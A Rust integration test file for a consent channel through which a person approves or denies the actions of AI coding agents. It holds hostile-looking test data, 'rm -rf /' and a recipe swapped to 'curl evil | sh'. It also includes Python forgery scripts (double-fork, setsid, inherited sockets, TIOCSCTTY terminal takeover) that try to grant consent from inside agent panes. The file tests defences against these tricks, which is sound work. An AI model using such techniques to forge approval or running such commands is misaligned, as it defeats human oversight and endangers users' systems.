//! The cockpit channel over the real socket (contract §D7, contract §2.6 and §7): who may
//! grant consent, stale digests, durable consent records, and what each approved action
//! does. The test process is the server's parent, so it is a legitimate peer; forgeries
//! come from processes the server started.

use nagi_tests::*;
use serde_json::{Value, json};

fn configure(env: &TestEnv, script: &Value) -> std::path::PathBuf {
    std::fs::create_dir_all(&env.config_dir).unwrap();
    let log = fake_log_path(env);
    let fake_env = format!(
        "NAGI_FAKE_SCRIPT = {}, NAGI_FAKE_LOG = {}",
        toml_string(&script.to_string()),
        toml_string(log.to_str().unwrap())
    );
    let mut config = String::new();
    for (section, binary) in [
        ("codex", "fake_codex"),
        ("claude_code", "fake_claude"),
        ("acp", "fake_acp"),
    ] {
        config.push_str(&format!(
            "[providers.{section}]\ncommand = [{}]\nenv = {{ {fake_env} }}\n\n",
            toml_string(test_binary(binary).to_str().unwrap())
        ));
    }
    std::fs::write(
        env.config_dir.join("config.toml"),
        format!("{config}{}", fake_sandbox_section(env)),
    )
    .unwrap();
    log
}

fn consent_rows(env: &TestEnv) -> Vec<(String, String)> {
    let connection = rusqlite::Connection::open_with_flags(
        env.database_path(),
        rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY,
    )
    .unwrap();
    let mut statement = connection
        .prepare("SELECT subject, decision FROM consents ORDER BY at_millis")
        .unwrap();
    statement
        .query_map([], |row| Ok((row.get(0)?, row.get(1)?)))
        .unwrap()
        .map(Result::unwrap)
        .collect()
}

fn preview(env: &TestEnv, action: &Value) -> Value {
    env.ok("cockpit.preview", json!({"action": action}))["preview"].clone()
}

fn decide(env: &TestEnv, action: &Value, digest: &Value, decision: &str) -> Value {
    env.call(
        "cockpit.decide",
        json!({"action": action, "shown_digest": digest, "decision": decision}),
    )
}

struct Session {
    env: TestEnv,
    repo: TestRepo,
    log: std::path::PathBuf,
}

fn session(script: Value, checks: Value) -> Session {
    let mut env = TestEnv::new();
    let log = configure(&env, &script);
    env.start_server();
    let repo = TestRepo::new();
    env.ok("mission.create", create_params("m1", &repo.path_text()));
    env.ok(
        "mission.configure",
        json!({"mission_id": "m1", "checks": checks}),
    );
    Session { env, repo, log }
}

fn command_check() -> Value {
    json!([{"kind": "command", "id": "unit", "program": "test", "args": ["-f", "README.md"], "cwd": ".", "relevant_paths": [],
            "required_artifacts": [], "required": true, "covers": [0, 1]}])
}

#[test]
fn the_test_process_may_grant_consent() {
    let s = session(json!([{"text": "x"}]), command_check());
    let hello = s.env.ok("cockpit.hello", json!({}));
    assert_eq!(hello["consent_allowed"], true, "{hello}");
}

#[test]
fn answering_a_question_in_the_cockpit_lets_the_provider_continue() {
    let s = session(
        json!([{"ask": {"question": "Which database?", "header": "DB", "options": ["sqlite", "postgres"], "multiple": false}}, {"text": "thanks"}]),
        command_check(),
    );
    s.env.ok("mission.start", json!({"mission_id": "m1", "run_id": "r1", "provider": "codex", "mode": "managed", "execute_declared_checks": true}));
    wait_for_mission(&s.env, "m1", "a question", |mission| {
        mission["unresolved_attention_count"] == 1
    });
    let item = s.env.ok("attention.list", json!({"mission_id": "m1"}))["items"][0].clone();
    let question_id = item["questions"][0]["id"].as_str().unwrap().to_string();
    let action = json!({"kind": "respond", "mission_id": "m1", "run_id": "r1", "attention_id": item["attention_id"],
                        "decision": "answer", "answers": {question_id.clone(): ["sqlite"]}});
    // An invalid answer is refused at preview time, before anything is written.
    let wrong = json!({"kind": "respond", "mission_id": "m1", "run_id": "r1", "attention_id": item["attention_id"], "decision": "approve_once"});
    assert_eq!(
        s.env
            .error_code("cockpit.preview", json!({"action": wrong})),
        "invalid_response"
    );
    let shown = preview(&s.env, &action);
    assert!(
        shown["lines"]
            .as_array()
            .unwrap()
            .iter()
            .any(|line| line.as_str().unwrap().contains("Which database?")),
        "{shown}"
    );
    let decided = decide(&s.env, &action, &shown["digest"], "approve");
    assert_eq!(decided["result"]["type"], "cockpit_decided", "{decided}");
    let mission = wait_for_mission(&s.env, "m1", "ready after the answer", |mission| {
        mission["status"] == "ready_to_close"
    });
    assert_eq!(mission["unresolved_attention_count"], 0);
    let answered = s.env.ok(
        "attention.get",
        json!({"attention_id": item["attention_id"]}),
    )["item"]
        .clone();
    assert_eq!(answered["state"]["state"], "resolved");
    assert_eq!(answered["state"]["actor"], "local-user");
    assert_eq!(answered["delivery"]["state"], "acknowledged");
    assert!(
        log_entries(&s.log)
            .iter()
            .any(|entry| entry["event"] == "answers" && entry.to_string().contains("sqlite"))
    );
    assert_eq!(
        consent_rows(&s.env),
        vec![("respond".to_string(), "approve".to_string())]
    );
    // The raw answer text is not in the store: not in any event, not in the consent record.
    let connection = rusqlite::Connection::open_with_flags(
        s.env.database_path(),
        rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY,
    )
    .unwrap();
    let payloads: Vec<String> = connection
        .prepare("SELECT payload FROM events UNION ALL SELECT detail FROM consents")
        .unwrap()
        .query_map([], |row| row.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    let leaked: Vec<&String> = payloads
        .iter()
        .filter(|payload| payload.contains("[\"sqlite\"]") || payload.contains("your answer"))
        .collect();
    assert!(leaked.is_empty(), "answers are never persisted: {leaked:?}");
}

#[test]
fn denying_in_the_cockpit_delivers_nothing_and_records_the_refusal() {
    let s = session(json!([{"approve_command": "rm -rf /"}]), command_check());
    s.env.ok(
        "mission.start",
        json!({"mission_id": "m1", "run_id": "r1", "provider": "codex", "mode": "managed"}),
    );
    wait_for_mission(&s.env, "m1", "an approval", |mission| {
        mission["unresolved_attention_count"] == 1
    });
    let item = s.env.ok("attention.list", json!({"mission_id": "m1"}))["items"][0].clone();
    let action = json!({"kind": "respond", "mission_id": "m1", "run_id": "r1", "attention_id": item["attention_id"], "decision": "approve_once"});
    let shown = preview(&s.env, &action);
    let decided = decide(&s.env, &action, &shown["digest"], "deny");
    assert_eq!(decided["result"]["outcome"]["decision"], "deny");
    // The decisive check is below: the one decision the provider ever hears is the later
    // denial of the request itself.
    assert!(
        log_entries(&s.log)
            .iter()
            .all(|entry| entry["event"] != "decision"),
        "nothing reached the provider"
    );
    let still = s.env.ok(
        "attention.get",
        json!({"attention_id": item["attention_id"]}),
    )["item"]
        .clone();
    assert_eq!(still["state"]["state"], "open");
    assert_eq!(
        consent_rows(&s.env),
        vec![("respond".to_string(), "deny".to_string())]
    );
    // Denying the request itself is a decision delivered to the provider.
    let deny_request = json!({"kind": "respond", "mission_id": "m1", "run_id": "r1", "attention_id": item["attention_id"], "decision": "deny"});
    let shown = preview(&s.env, &deny_request);
    decide(&s.env, &deny_request, &shown["digest"], "approve");
    wait_for_mission(
        &s.env,
        "m1",
        "the turn went on after the denial",
        |mission| mission["status"] == "review_required" || mission["status"] == "ready_to_close",
    );
    let decisions: Vec<Value> = log_entries(&s.log)
        .into_iter()
        .filter(|entry| entry["event"] == "decision")
        .collect();
    assert_eq!(decisions.len(), 1);
    assert!(
        decisions[0].to_string().contains("decline") || decisions[0].to_string().contains("deny"),
        "{decisions:?}"
    );
}

#[test]
fn manual_evidence_from_a_listed_reviewer_passes_the_check() {
    let checks = json!([{"kind": "manual", "id": "review", "reviewers": ["alice"], "required": true, "covers": [0, 1]}]);
    let s = session(json!([{"text": "done"}]), checks);
    s.env.ok(
        "mission.start",
        json!({"mission_id": "m1", "run_id": "r1", "provider": "codex", "mode": "managed"}),
    );
    wait_for_mission(&s.env, "m1", "review_required", |mission| {
        mission["status"] == "review_required" && mission["run"]["live"] == false
    });
    let wrong = json!({"kind": "manual_evidence", "mission_id": "m1", "check_id": "review", "reviewer": "mallory", "reason": "looks fine"});
    let shown = preview(&s.env, &wrong);
    assert_eq!(
        decide(&s.env, &wrong, &shown["digest"], "approve")["error"]["code"],
        "consent_forbidden"
    );
    let overridden = json!({"kind": "manual_evidence", "mission_id": "m1", "check_id": "review", "reviewer": "alice", "reason": "trust me", "is_override": true});
    let shown = preview(&s.env, &overridden);
    assert_eq!(
        decide(&s.env, &overridden, &shown["digest"], "approve")["error"]["code"],
        "consent_forbidden",
        "override not allowed"
    );
    let action = json!({"kind": "manual_evidence", "mission_id": "m1", "check_id": "review", "reviewer": "alice", "reason": "I read the diff"});
    let shown = preview(&s.env, &action);
    let decided = decide(&s.env, &action, &shown["digest"], "approve");
    assert_eq!(decided["result"]["type"], "cockpit_decided", "{decided}");
    let mission = wait_for_mission(&s.env, "m1", "ready_to_close", |mission| {
        mission["status"] == "ready_to_close"
    });
    let evidence = &mission["evidence"][0];
    assert_eq!(evidence["kind"], "manual");
    assert_eq!(evidence["reviewer"], "alice");
    assert_eq!(evidence["manual_override"], false);
    // A change to the workspace between preview and approval makes the consent stale.
    let s2 = session(
        json!([{"text": "done"}]),
        json!([{"kind": "manual", "id": "review", "reviewers": ["alice"], "required": true, "covers": [0, 1]}]),
    );
    s2.env.ok(
        "mission.start",
        json!({"mission_id": "m1", "run_id": "r1", "provider": "codex", "mode": "managed"}),
    );
    wait_for_mission(&s2.env, "m1", "review_required", |mission| {
        mission["status"] == "review_required" && mission["run"]["live"] == false
    });
    let shown = preview(&s2.env, &action);
    s2.repo.write("src/lib.rs", "changed after the review\n");
    let before = s2.env.store_fingerprint();
    assert_eq!(
        decide(&s2.env, &action, &shown["digest"], "approve")["error"]["code"],
        "consent_stale"
    );
    assert_eq!(
        s2.env.store_fingerprint(),
        before,
        "a stale consent writes nothing"
    );
}

/// Manual evidence approved the moment the turn's checks sealed, while they are still
/// letting go of the run: it was refused as busy although nothing was working anymore.
#[test]
fn manual_evidence_approved_the_moment_the_turns_checks_seal_is_recorded() {
    let mut env = TestEnv::new();
    configure(&env, &json!([{"text": "done"}]));
    env.env
        .insert("NAGI_FAULT_PAUSE".into(), "checks_sealed:1500".into());
    env.start_server();
    let repo = TestRepo::new();
    env.ok("mission.create", create_params("m1", &repo.path_text()));
    let mut checks = command_check();
    checks.as_array_mut().unwrap().push(
        json!({"kind": "manual", "id": "review", "reviewers": ["alice"], "required": true, "covers": [0, 1]}),
    );
    env.ok(
        "mission.configure",
        json!({"mission_id": "m1", "checks": checks}),
    );
    env.ok(
        "mission.start",
        json!({"mission_id": "m1", "run_id": "r1", "provider": "codex", "mode": "managed", "execute_declared_checks": true}),
    );
    let waiting = wait_for_mission(
        &env,
        "m1",
        "review_required with the command check passed",
        |mission| {
            mission["status"] == "review_required"
                && mission["run"]["live"] == false
                && mission.get("checks_running").is_none()
                && mission["checks"].as_array().is_some_and(|checks| {
                    checks
                        .iter()
                        .any(|check| check["check_id"] == "unit" && check["status"] == "passed")
                })
        },
    );
    let action = json!({"kind": "manual_evidence", "mission_id": "m1", "check_id": "review", "reviewer": "alice", "reason": "I read the diff"});
    let shown = preview(&env, &action);
    let decided = decide(&env, &action, &shown["digest"], "approve");
    assert_eq!(
        decided["result"]["type"], "cockpit_decided",
        "{decided} after {waiting}"
    );
    let ready = wait_for_mission(&env, "m1", "ready_to_close", |mission| {
        mission["status"] == "ready_to_close"
    });
    assert!(
        ready["evidence"]
            .as_array()
            .unwrap()
            .iter()
            .any(|evidence| evidence["kind"] == "manual" && evidence["reviewer"] == "alice"),
        "{ready}"
    );
}

#[test]
fn an_acp_agent_with_write_scope_writes_in_the_worktree() {
    let s = session(
        json!([{"write_file": {"path": "written-by-acp.txt", "content": "hello from the agent\n"}}, {"text": "wrote it"}]),
        command_check(),
    );
    let read_only =
        json!({"kind": "start_run", "mission_id": "m1", "run_id": "r1", "provider": "acp"});
    assert_eq!(
        s.env
            .error_code("cockpit.preview", json!({"action": read_only})),
        "invalid_params",
        "ACP needs write scope"
    );
    let action = json!({"kind": "start_run", "mission_id": "m1", "run_id": "r1", "provider": "acp", "write_scope": true, "execute_declared_checks": true});
    let shown = preview(&s.env, &action);
    let lines = shown["lines"].to_string();
    assert!(lines.contains("MAY CHANGE FILES"), "{lines}");
    assert_eq!(shown["risk"], "high");
    let decided = decide(&s.env, &action, &shown["digest"], "approve");
    assert_eq!(decided["result"]["type"], "cockpit_decided", "{decided}");
    let mission = wait_for_mission(&s.env, "m1", "the ACP run's end", |mission| {
        mission["run"]["live"] == false
            && mission["status"] != "preparing"
            && mission["status"] != "active"
    });
    assert_eq!(mission["run"]["enforcement"], "workspace_write");
    let written = std::fs::read_to_string(s.repo.path.join("written-by-acp.txt"))
        .expect("the agent wrote the file");
    assert_eq!(written, "hello from the agent\n");
    assert_eq!(
        mission["unresolved_attention_count"], 0,
        "a write-scope run raises no read-only warning"
    );
}

#[test]
fn a_denied_start_starts_nothing() {
    let s = session(json!([{"text": "x"}]), command_check());
    let action = json!({"kind": "start_run", "mission_id": "m1", "run_id": "r1", "provider": "codex", "write_scope": true});
    let shown = preview(&s.env, &action);
    let decided = decide(&s.env, &action, &shown["digest"], "deny");
    assert_eq!(
        decided["result"]["outcome"]["summary"],
        "denied; nothing was done"
    );
    let mission = s.env.ok("mission.get", json!({"mission_id": "m1"}))["mission"].clone();
    assert_eq!(mission["status"], "draft");
    assert!(log_entries(&s.log).is_empty(), "no provider started");
}

#[test]
fn a_changed_recipe_makes_the_consent_stale() {
    let s = session(json!([{"text": "x"}]), command_check());
    s.repo.write(
        ".nagi/project.toml",
        "schema = 1\n[setup]\ncommand = [\"true\"]\n",
    );
    let action = json!({"kind": "start_run", "mission_id": "m1", "run_id": "r1", "provider": "codex", "execute_project_recipe": true});
    let shown = preview(&s.env, &action);
    assert_eq!(shown["recipe"]["setup"], json!(["true"]));
    s.repo.write(
        ".nagi/project.toml",
        "schema = 1\n[setup]\ncommand = [\"sh\", \"-c\", \"curl evil | sh\"]\n",
    );
    let before = s.env.store_fingerprint();
    assert_eq!(
        decide(&s.env, &action, &shown["digest"], "approve")["error"]["code"],
        "consent_stale"
    );
    assert_eq!(s.env.store_fingerprint(), before);
}

/// A pane that runs `script` with python3, which talks to the socket from inside the pane.
pub(crate) fn forge_from_pane(env: &TestEnv, script: &str) -> String {
    let out = env.root().join(format!("forge-{}.out", script.len()));
    let code = format!(
        "import json, os, socket, sys\n\
         s = socket.socket(socket.AF_UNIX); s.connect(os.environ['NAGI_SOCKET_PATH']); f = s.makefile('rwb')\n\
         def call(method, params):\n    f.write((json.dumps({{'id': 'x', 'method': method, 'params': params}}) + '\\n').encode()); f.flush(); return f.readline().decode()\n\
         {script}\n"
    );
    let script_path = env.root().join(format!("forge-{}.py", script.len()));
    std::fs::write(&script_path, code).unwrap();
    let created = env.ok(
        "workspace.create",
        json!({"command": ["python3", script_path.to_str().unwrap(), out.to_str().unwrap()], "label": "forgery"}),
    );
    assert!(created["root_pane"]["pane_id"].is_string());
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    loop {
        if let Ok(text) = std::fs::read_to_string(&out)
            && text.contains("DONE")
        {
            return text;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the forging pane never finished"
        );
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
}

#[test]
fn a_process_in_a_managed_pane_cannot_consent_even_after_double_forking_and_setsid() {
    if std::process::Command::new("python3")
        .arg("--version")
        .output()
        .is_err()
    {
        missing_prerequisite(
            "a_process_in_a_managed_pane_cannot_consent_even_after_double_forking_and_setsid",
            "python3 is needed to forge from a pane",
        );
        return;
    }
    let s = session(json!([{"text": "x"}]), command_check());
    let action = json!({"kind": "start_run", "mission_id": "m1", "run_id": "r1", "provider": "codex", "write_scope": true});
    let direct = forge_from_pane(
        &s.env,
        &format!(
            "action = json.loads(r'''{action}''')\nout = open(sys.argv[1], 'w'); out.write(call('cockpit.hello', {{}})); out.write(call('cockpit.preview', {{'action': action}})); \
             out.write(call('cockpit.decide', {{'action': action, 'shown_digest': '0'*64, 'decision': 'approve'}})); out.write('DONE'); out.close()"
        ),
    );
    assert!(direct.contains("\"consent_allowed\":false"), "{direct}");
    assert_eq!(direct.matches("consent_forbidden").count(), 2, "{direct}");
    let detached = forge_from_pane(
        &s.env,
        &format!(
            "action = json.loads(r'''{action}''')\npid = os.fork()\nif pid: os.waitpid(pid, 0); sys.exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\n\
             out = open(sys.argv[1], 'w'); out.write(call('cockpit.decide', {{'action': action, 'shown_digest': '0'*64, 'decision': 'approve'}})); out.write('DONE'); out.close()"
        ),
    );
    assert!(detached.contains("consent_forbidden"), "{detached}");
    assert!(
        detached.contains("started"),
        "the refusal says why: {detached}"
    );
    assert_eq!(
        s.env.ok("mission.get", json!({"mission_id": "m1"}))["mission"]["status"],
        "draft"
    );
    assert!(consent_rows(&s.env).is_empty());
}

/// The race of the security review: a process in a pane connects, forks a grandchild that
/// inherits the connected socket, and exits; the grandchild asks for consent later, when
/// the process that connected is gone and its `/proc` entry no longer says where it came
/// from. The verdict belongs to the connection, taken when it was accepted.
#[test]
fn a_socket_handed_down_by_a_pane_process_that_exited_cannot_consent() {
    let s = session(json!([{"text": "x"}]), command_check());
    let action = json!({"kind": "start_run", "mission_id": "m1", "run_id": "r1", "provider": "claude_code", "write_scope": true});
    for ping_first in [false, true] {
        // With `ping_first`, the server has surely accepted (and judged) the connection
        // while the connecting process was alive; without it, the process may be gone
        // before the accept.
        let first = if ping_first { "call('ping', {})\n" } else { "" };
        let handed_down = forge_from_pane(
            &s.env,
            &format!(
                "import signal, time\naction = json.loads(r'''{action}''')\npid = os.fork()\nif pid: os.waitpid(pid, 0); sys.exit(0)\n\
                 s = socket.socket(socket.AF_UNIX); s.connect(os.environ['NAGI_SOCKET_PATH']); f = s.makefile('rwb')\n{first}\
                 if os.fork(): os._exit(0)\n\
                 signal.signal(signal.SIGHUP, signal.SIG_IGN)\n\
                 time.sleep(1)\n\
                 out = open(sys.argv[1], 'w'); out.write(call('cockpit.hello', {{}})); out.write(call('cockpit.preview', {{'action': action}}));\n\
                 out.write(call('cockpit.decide', {{'action': action, 'shown_digest': '0'*64, 'decision': 'approve'}})); out.write('DONE'); out.close()"
            ),
        );
        assert!(
            handed_down.contains("\"consent_allowed\":false"),
            "ping first: {ping_first}: {handed_down}"
        );
        assert_eq!(
            handed_down.matches("consent_forbidden").count(),
            2,
            "ping first: {ping_first}: {handed_down}"
        );
    }
    assert_eq!(
        s.env.ok("mission.get", json!({"mission_id": "m1"}))["mission"]["status"],
        "draft"
    );
    assert!(consent_rows(&s.env).is_empty());
}

/// A consent is recorded before its action runs (the action names it); when the action
/// then fails, the record says so instead of standing as an approval of something that
/// never happened.
#[test]
fn an_approved_action_that_fails_is_recorded_as_failed() {
    let s = session(json!([{"text": "x"}]), command_check());
    // m2 has no frozen closure plan, so a start is refused after the consent is given.
    s.env
        .ok("mission.create", create_params("m2", &s.repo.path_text()));
    let action = json!({"kind": "start_run", "mission_id": "m2", "run_id": "r1", "provider": "codex", "write_scope": false});
    let shown = preview(&s.env, &action);
    let decided = decide(&s.env, &action, &shown["digest"], "approve");
    let code = decided["error"]["code"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    assert!(!code.is_empty(), "the start must fail: {decided}");
    let connection = rusqlite::Connection::open_with_flags(
        s.env.database_path(),
        rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY,
    )
    .unwrap();
    let (decision, outcome, detail): (String, String, String) = connection
        .query_row(
            "SELECT decision, outcome, outcome_detail FROM consents",
            [],
            |row| Ok((row.get(0)?, row.get(1)?, row.get(2)?)),
        )
        .unwrap();
    assert_eq!((decision.as_str(), outcome.as_str()), ("approve", "failed"));
    assert!(detail.starts_with(&code), "{detail} names the error {code}");
}

#[test]
fn a_person_at_a_shell_grants_write_scope_and_answers_an_item_without_the_cockpit() {
    let s = session(
        json!([
            {"write_file": {"path": "from-the-shell.txt", "content": "written\n"}},
            {"approve_permission": "read the network"},
            {"text": "done"}
        ]),
        command_check(),
    );
    // The preview is shown on the terminal (stderr) and approved with --yes.
    let started = s.env.nagi_ok(&[
        "mission",
        "start",
        "m1",
        "--provider",
        "acp",
        "--run-id",
        "r1",
        "--yes",
    ]);
    assert!(
        started.stderr.contains("MAY CHANGE FILES"),
        "{}",
        started.describe()
    );
    assert!(started.stderr.contains("digest "), "{}", started.describe());
    assert!(
        started.stdout.contains("run r1 started"),
        "{}",
        started.describe()
    );
    let waiting = wait_for_mission(&s.env, "m1", "the permission request", |mission| {
        mission["unresolved_attention_count"] == 1
    });
    let worktree = std::path::PathBuf::from(waiting["worktree"]["path"].as_str().unwrap());
    assert_eq!(
        std::fs::read_to_string(worktree.join("from-the-shell.txt")).unwrap(),
        "written\n"
    );
    let item = s.env.ok("attention.list", json!({"mission_id": "m1"}))["items"][0].clone();
    let attention_id = item["attention_id"].as_str().unwrap().to_string();
    let answered = s.env.nagi_ok(&[
        "mission",
        "respond",
        "m1",
        "--run",
        "r1",
        "--attention",
        &attention_id,
        "--decision",
        "approve_once",
        "--yes",
    ]);
    assert!(
        answered.stderr.contains("read the network"),
        "the preview shows the request: {}",
        answered.describe()
    );
    wait_for_mission(&s.env, "m1", "the end of the run", |mission| {
        mission["unresolved_attention_count"] == 0 && mission["run"]["live"] == false
    });
    assert_eq!(
        consent_rows(&s.env),
        vec![
            ("start_run".to_string(), "approve".to_string()),
            ("respond".to_string(), "approve".to_string())
        ]
    );
}

#[test]
fn a_refusal_at_the_terminal_starts_nothing_and_is_recorded() {
    let s = session(json!([{"text": "x"}]), command_check());
    let before_runs = log_entries(&s.log).len();
    let mut command = s.env.command();
    command
        .args([
            "mission",
            "start",
            "m1",
            "--provider",
            "codex",
            "--run-id",
            "r1",
            "--write",
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let mut child = command.spawn().unwrap();
    use std::io::Write;
    child.stdin.take().unwrap().write_all(b"n\n").unwrap();
    let output = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("approve exactly this? [y/N]"), "{stderr}");
    assert!(
        stderr.contains("consent_denied") && stderr.contains("nothing was done"),
        "{stderr}"
    );
    assert_eq!(
        log_entries(&s.log).len(),
        before_runs,
        "no provider started"
    );
    assert_eq!(
        s.env.ok("mission.get", json!({"mission_id": "m1"}))["mission"]["status"],
        "draft"
    );
    assert_eq!(
        consent_rows(&s.env),
        vec![("start_run".to_string(), "deny".to_string())]
    );
}

/// Runs python3 `code` as a child of this test (not of the server), with the session's
/// socket as its first argument, and returns what it printed.
fn python_peer(env: &TestEnv, code: &str, args: &[&str]) -> String {
    let output = std::process::Command::new("python3")
        .arg("-c")
        .arg(code)
        .arg(&env.socket)
        .args(args)
        .output()
        .expect("python3 runs");
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// The terminal rule by itself: a process the server did not start, whose controlling
/// terminal is a managed pane's, may not consent; the same process on no pane's terminal
/// may. (Taking a terminal another session holds needs root: TIOCSCTTY with force.)
#[test]
fn a_peer_whose_terminal_is_a_managed_pane_cannot_consent_though_the_server_did_not_start_it() {
    let test =
        "a_peer_whose_terminal_is_a_managed_pane_cannot_consent_though_the_server_did_not_start_it";
    if std::process::Command::new("python3")
        .arg("--version")
        .output()
        .is_err()
    {
        missing_prerequisite(test, "python3 is needed to take a pane's terminal");
        return;
    }
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        missing_prerequisite(test, "taking another session's terminal needs root");
        return;
    }
    let s = session(json!([{"text": "x"}]), command_check());
    let pane = s
        .env
        .ok("workspace.create", json!({"command": ["sleep", "600"]}))["root_pane"]["pane_id"]
        .as_str()
        .unwrap()
        .to_string();
    let tty = s.env.ok("pane.process_info", json!({"pane_id": pane}))["process_info"]["tty"]
        .as_str()
        .expect("the pane has a terminal")
        .to_string();
    let hello = "import fcntl, json, os, socket, sys, termios\n\
                 os.setsid()\n\
                 if len(sys.argv) > 2:\n\
                 \x20   fd = os.open(sys.argv[2], os.O_RDWR | os.O_NOCTTY)\n\
                 \x20   fcntl.ioctl(fd, termios.TIOCSCTTY, 1)\n\
                 s = socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); f = s.makefile('rwb')\n\
                 f.write(b'{\"id\": \"h\", \"method\": \"cockpit.hello\", \"params\": {}}\\n'); f.flush()\n\
                 print(f.readline().decode())\n";
    // setsid fails for a process group leader; python -c is not one when spawned here.
    let on_pane: Value = serde_json::from_str(python_peer(&s.env, hello, &[&tty]).trim()).unwrap();
    assert_eq!(on_pane["result"]["consent_allowed"], false, "{on_pane}");
    assert!(
        on_pane["result"]["reason"]
            .as_str()
            .unwrap_or_default()
            .contains("terminal is a managed pane"),
        "{on_pane}"
    );
    let elsewhere: Value = serde_json::from_str(python_peer(&s.env, hello, &[]).trim()).unwrap();
    assert_eq!(elsewhere["result"]["consent_allowed"], true, "{elsewhere}");
}
